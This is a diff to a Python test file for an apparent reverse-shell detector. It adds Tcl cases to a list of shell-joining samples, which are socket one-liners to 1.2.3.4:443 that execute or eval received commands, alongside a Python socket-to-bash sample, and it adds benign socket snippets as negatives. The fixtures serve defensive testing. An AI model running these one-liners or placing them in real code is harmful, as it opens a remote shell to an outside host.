@@ -7,6 +7,8 @@ from hypothesis import strategies as st
 from tallystick.policy.risks.joined import joins_a_shell, runs_named
 
 JOINS = (
+    ("tcl", "set s [socket 1.2.3.4 443];while 1 {gets $s c;puts $s [exec {*}$c];flush $s}"),
+    ("tcl", "set s [socket 1.2.3.4 443]; set c [gets $s]; eval $c"),
     ("python", "s=socket.socket();s.connect(a)\nsp.Popen(['/bin/bash','-i'],stdin=s,stdout=s,stderr=s)"),
     (
         "python",
@@ -39,6 +41,8 @@ JOINS = (
     ),
 )
 WORK = (
+    ("tcl", "set s [socket localhost 80]; puts $s ping; gets $s c; puts $c"),
+    ("tcl", "set s [socket localhost 80]; puts $s [exec ls]"),
     ("python", "s=socket.socket();s.bind(('',0));s.listen();c,_=s.accept();c.sendall(c.recv(10))"),
     ("python", "import socket, subprocess\nprint(socket.gethostname())\nsubprocess.run(['bash','start.sh'])"),
     ("python", "socket.create_connection(('localhost',5432),1)\nsubprocess.run(['npx','playwright','test'])"),
